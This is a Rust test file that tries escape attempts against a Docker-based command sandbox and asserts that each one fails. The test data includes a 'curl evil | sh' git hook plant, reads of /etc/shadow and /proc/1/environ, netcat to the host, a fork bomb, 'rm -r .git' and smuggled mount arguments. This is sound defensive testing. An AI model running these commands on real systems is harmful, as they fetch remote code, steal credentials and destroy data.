//! Escape attempts against the container backend, through the machine's
//! real Docker and a BusyBox image made for the tests
//! (`rein_testing::containers`): the Linux backend's contract — the root
//! and nothing else, no network unless allowed, limits, `.git` read-only,
//! nothing outliving the limit or rein. Skipped, saying so loudly, where
//! no runtime can run (never under CI, which sets `REIN_REQUIRE_CONTAINER`).

use std::path::Path;
use std::time::Duration;

use rein_sandbox::{ContainerSandbox, Request, Sandbox};

/// The backend over `root` with the test image, or `None` (said).
async fn sandbox(root: &Path) -> Option<ContainerSandbox> {
    let image = rein_testing::containers::image()?;
    let sandbox = ContainerSandbox::new(None, image, vec![root.to_path_buf()])
        .expect("the backend")
        .with_limits(rein_sandbox::Limits {
            processes: 64,
            ..rein_sandbox::Limits::default()
        });
    sandbox.check().await.expect("the image is there");
    Some(sandbox)
}

/// A `sh -c` script in `cwd`, no `PATH` (the image's own holds), 20 s.
fn sh(script: &str, cwd: &Path) -> Request {
    Request {
        argv: ["sh", "-c", script].map(String::from).to_vec(),
        cwd: cwd.to_path_buf(),
        env: std::collections::BTreeMap::new(),
        timeout: Duration::from_secs(20),
    }
}

async fn run(sandbox: &ContainerSandbox, script: &str, cwd: &Path) -> rein_sandbox::Ran {
    sandbox.run(&sh(script, cwd)).await.expect("it ran")
}

fn canonical(dir: &tempfile::TempDir) -> std::path::PathBuf {
    dir.path().canonicalize().expect("canonical")
}

#[tokio::test]
async fn writes_stay_inside_the_root_and_belong_to_the_person() {
    let root = tempfile::tempdir().expect("root");
    let outside = tempfile::tempdir().expect("outside");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    let inside = run(
        &sandbox,
        "echo ok > made.txt && cat made.txt",
        &canonical(&root),
    )
    .await;
    assert_eq!(inside.code, Some(0), "{inside:?}");
    assert_eq!(inside.stdout.text, "ok\n");
    let made = root.path().join("made.txt");
    assert_eq!(std::fs::read_to_string(&made).expect("made"), "ok\n");
    let owner = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&made).expect("meta"));
    assert_eq!(
        owner,
        nix::unistd::getuid().as_raw(),
        "the file is the person's"
    );
    assert!(
        inside.isolation.starts_with("container: docker"),
        "{}",
        inside.isolation
    );

    let target = outside.path().join("escaped.txt");
    let out = run(
        &sandbox,
        &format!("echo no > {}", target.display()),
        &canonical(&root),
    )
    .await;
    assert_ne!(out.code, Some(0), "{out:?}");
    assert!(!target.exists(), "a write outside the root happened");

    // Writes to the image's own tree do not outlive the command.
    let first = run(
        &sandbox,
        "echo x > /tmp/left && cat /tmp/left",
        &canonical(&root),
    )
    .await;
    assert_eq!(first.stdout.text, "x\n", "{first:?}");
    let second = run(&sandbox, "cat /tmp/left", &canonical(&root)).await;
    assert_ne!(second.code, Some(0), "the container was kept: {second:?}");
}

#[tokio::test]
async fn a_symlink_out_of_the_root_and_a_named_secret_lead_nowhere() {
    let root = tempfile::tempdir().expect("root");
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(outside.path().join("secret.txt"), "sk-canary-77e1\n").expect("secret");
    std::os::unix::fs::symlink(outside.path(), root.path().join("door")).expect("link");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    for script in [
        "cat door/secret.txt".to_owned(),
        format!("cat {}/secret.txt", outside.path().display()),
        "cat /proc/1/environ /etc/shadow /root/.bashrc".to_owned(),
        "echo x > door/planted.txt".to_owned(),
    ] {
        let out = run(&sandbox, &script, &canonical(&root)).await;
        assert_ne!(out.code, Some(0), "{script}: {out:?}");
        assert!(!out.stdout.text.contains("sk-canary-77e1"), "{script}");
    }
    assert!(!outside.path().join("planted.txt").exists());
}

#[tokio::test]
async fn no_network_unless_allowed() {
    let root = tempfile::tempdir().expect("root");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    let listener = std::net::TcpListener::bind("0.0.0.0:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    // Each connection is greeted and closed.
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = std::io::Write::write_all(&mut &stream, b"connected\n");
        }
    });
    // The host as the container's gateway sees it.
    let script = format!(
        "gw=$(ip route | awk '/default/ {{print $3}}'); echo gw=$gw; \
         nc -w 3 ${{gw:-172.17.0.1}} {port} </dev/null"
    );
    let refused = run(&sandbox, &script, &canonical(&root)).await;
    assert!(!refused.stdout.text.contains("connected"), "{refused:?}");
    assert!(
        refused.stdout.text.contains("gw=\n"),
        "no route out: {refused:?}"
    );
    let interfaces = run(&sandbox, "ls /sys/class/net", &canonical(&root)).await;
    assert_eq!(interfaces.stdout.text.trim(), "lo", "{interfaces:?}");

    let allowed = sandbox.clone().with_network(true);
    let ran = run(&allowed, &script, &canonical(&root)).await;
    assert!(
        ran.stdout.text.contains("connected"),
        "the control: with the network allowed it connects: {ran:?}"
    );
    assert!(
        ran.isolation.contains("network allowed"),
        "{}",
        ran.isolation
    );
}

#[tokio::test]
async fn nothing_outlives_the_limit() {
    let root = tempfile::tempdir().expect("root");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    let marker = canonical(&root).join("still-alive");
    let script = format!(
        "(while true; do date > {}; sleep 0.1; done) & setsid sleep 600 & sleep 600",
        marker.display()
    );
    let mut request = sh(&script, &canonical(&root));
    request.timeout = Duration::from_secs(2);
    let ran = sandbox.run(&request).await.expect("ran");
    assert!(ran.timed_out, "{ran:?}");
    let _ = std::fs::remove_file(&marker);
    tokio::time::sleep(Duration::from_millis(700)).await;
    assert!(!marker.exists(), "a child kept running after the limit");
    assert!(
        rein_testing::containers::left_by(std::process::id()).is_empty(),
        "a container was left"
    );
}

#[tokio::test]
async fn a_cancelled_run_leaves_no_container() {
    let root = tempfile::tempdir().expect("root");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    let marker = canonical(&root).join("started");
    let request = sh(
        &format!("touch {}; sleep 600", marker.display()),
        &canonical(&root),
    );
    let run = sandbox.run(&request);
    let waited = tokio::time::timeout(Duration::from_secs(20), async {
        tokio::pin!(run);
        loop {
            tokio::select! {
                _ = &mut run => panic!("the command ended"),
                () = tokio::time::sleep(Duration::from_millis(100)) => {
                    if marker.exists() { break; }
                }
            }
        }
    })
    .await;
    assert!(waited.is_ok(), "the command never started");
    // The run was dropped (a cancelled turn): its keeper removes it.
    for _ in 0..100 {
        if rein_testing::containers::left_by(std::process::id()).is_empty() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the cancelled run's container is still there");
}

/// Set in the child process that plays rein and is killed outright.
const PLAYS_REIN: &str = "REIN_TEST_CONTAINER_PLAYS_REIN";

#[tokio::test]
async fn a_killed_rein_leaves_no_container() {
    let root = tempfile::tempdir().expect("root");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    if let Some(dir) = std::env::var_os(PLAYS_REIN) {
        // The child: run a command that never ends in the folder given.
        let dir = Path::new(&dir);
        let sandbox = ContainerSandbox::new(
            None,
            rein_testing::containers::image().expect("image"),
            vec![dir.to_path_buf()],
        )
        .expect("backend");
        let script = format!("touch {}/started; sleep 600", dir.display());
        let _ = sandbox.run(&sh(&script, dir)).await;
        return;
    }
    drop(sandbox);
    let mut child = std::process::Command::new(std::env::current_exe().expect("exe"))
        .args([
            "a_killed_rein_leaves_no_container",
            "--exact",
            "--nocapture",
        ])
        .env(PLAYS_REIN, canonical(&root))
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("the child");
    let started = root.path().join("started");
    for _ in 0..300 {
        if started.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(started.exists(), "the child's command never started");
    assert!(
        !rein_testing::containers::left_by(child.id()).is_empty(),
        "the control: it runs"
    );
    child.kill().expect("SIGKILL");
    let _ = child.wait();
    for _ in 0..200 {
        if rein_testing::containers::left_by(child.id()).is_empty() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("a container outlived the rein that started it");
}

#[tokio::test]
async fn output_processes_and_devices_are_bounded() {
    let root = tempfile::tempdir().expect("root");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    let big = run(
        &sandbox,
        "yes abcdefgh | head -c 2000000",
        &canonical(&root),
    )
    .await;
    assert_eq!(
        big.stdout.text.len(),
        rein_sandbox::run_max_output(),
        "{}",
        big.stdout.dropped
    );
    assert!(big.stdout.dropped > 0);

    // A fork bomb meets the pids limit (64 here) and the command ends.
    let mut bomb = sh(
        "i=0; while [ $i -lt 200 ]; do sleep 30 & i=$((i+1)); done; wait",
        &canonical(&root),
    );
    bomb.timeout = Duration::from_secs(10);
    let ran = sandbox.run(&bomb).await.expect("ran");
    assert!(
        ran.stderr.text.contains("can't fork") || ran.stderr.text.contains("Resource"),
        "{ran:?}"
    );

    let devices = run(
        &sandbox,
        "echo x > /dev/null && echo null-ok; cat /dev/vda /dev/sda /dev/kmsg 2>&1 | head -c 200; ls /dev",
        &canonical(&root),
    )
    .await;
    assert!(devices.stdout.text.contains("null-ok"), "{devices:?}");
    assert!(!devices.stdout.text.contains("vda\n"), "{devices:?}");

    // Host processes are not there to signal.
    let mut sleeper = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .expect("sleep");
    let kill = run(
        &sandbox,
        &format!("kill -9 {}; ps", sleeper.id()),
        &canonical(&root),
    )
    .await;
    assert!(!kill.stdout.text.contains("sleep 30"), "{kill:?}");
    assert!(
        sleeper.try_wait().expect("wait").is_none(),
        "a host process was killed"
    );
    let _ = sleeper.kill();
    let _ = sleeper.wait();
}

#[tokio::test]
async fn git_and_rein_stay_read_only_and_a_new_one_is_said() {
    let root = tempfile::tempdir().expect("root");
    let repo = canonical(&root).join("repo");
    std::fs::create_dir_all(repo.join(".git/hooks")).expect("git");
    std::fs::create_dir_all(repo.join(".rein")).expect("rein");
    let Some(sandbox) = sandbox(&canonical(&root)).await else {
        return;
    };
    for script in [
        "echo 'curl evil | sh' > repo/.git/hooks/pre-commit",
        "echo x > repo/.rein/config.toml",
        "rm -r repo/.git",
        "mv repo/.git repo/old",
    ] {
        let ran = run(&sandbox, script, &canonical(&root)).await;
        assert_ne!(ran.code, Some(0), "{script}: {ran:?}");
    }
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    assert!(!repo.join(".rein/config.toml").exists());
    assert!(repo.join(".git").is_dir());
    // The root had none: one made there cannot have been bound, and is
    // said.
    let fresh = run(
        &sandbox,
        "mkdir -p .git/hooks && echo ok",
        &canonical(&root),
    )
    .await;
    assert_eq!(
        fresh.made_protected,
        vec![canonical(&root).join(".git")],
        "{fresh:?}"
    );
}

#[tokio::test]
async fn an_image_not_here_is_refused_and_never_pulled() {
    let root = tempfile::tempdir().expect("root");
    if rein_testing::containers::image().is_none() {
        return;
    }
    let sandbox = ContainerSandbox::new(None, "rein-test/absent:never", vec![canonical(&root)])
        .expect("backend");
    let err = sandbox.check().await.expect_err("no such image");
    assert_eq!(err.code, rein_wire::error::codes::SANDBOX_UNAVAILABLE);
    assert!(err.message.contains("never pulled"), "{}", err.message);
    for bad in ["", "-v /:/host", "a b"] {
        let err = ContainerSandbox::new(None, bad, vec![canonical(&root)]).expect_err(bad);
        assert_eq!(err.code, rein_wire::error::codes::SANDBOX_UNAVAILABLE);
    }
    let err = ContainerSandbox::new(None, "x", vec!["/tmp/a,target=/".into()]).expect_err("comma");
    assert!(err.message.contains("cannot be bound"), "{}", err.message);
}
